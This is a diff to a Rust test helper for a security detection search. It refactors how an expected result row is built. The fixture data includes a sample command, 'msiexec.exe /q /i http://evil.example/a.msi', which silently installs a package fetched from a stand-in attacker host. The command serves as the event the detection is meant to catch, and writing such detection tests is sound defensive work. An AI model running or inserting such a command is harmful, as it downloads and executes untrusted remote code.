@@ -73,7 +73,7 @@ fn run(search: &str, events: &[CimEvent<'_>]) -> Vec<Row> {
 
 /// R1 with some columns changed.
 fn r1(changes: &[(&str, &str)]) -> Row {
-    let mut cells: Vec<(String, Value)> = [
+    let mut row = Row::from_texts(&[
         ("dest", "win-dc-6764986.attackrange.local"),
         ("user", "Administrator"),
         ("parent_process_name", "cmd.exe"),
@@ -82,17 +82,10 @@ fn r1(changes: &[(&str, &str)]) -> Row {
         ("process", "msiexec.exe /q /i http://evil.example/a.msi"),
         ("process_id", "2296"),
         ("parent_process_id", "4624"),
-    ]
-    .iter()
-    .map(|(n, v)| (n.to_string(), Value::Text(v.to_string())))
-    .collect();
-    cells.push(("count".into(), Value::Number("1".into())));
-    cells.push((
-        "firstTime".into(),
-        Value::Text("2020-10-08T11:03:46".into()),
-    ));
-    cells.push(("lastTime".into(), Value::Text("2020-10-08T11:03:46".into())));
-    let mut row: Row = cells.into_iter().collect();
+    ]);
+    row.set("count", Value::Number("1".into()));
+    row.set("firstTime", Value::Text("2020-10-08T11:03:46".into()));
+    row.set("lastTime", Value::Text("2020-10-08T11:03:46".into()));
     for (n, v) in changes {
         let value = if *n == "count" {
             Value::Number(v.to_string())
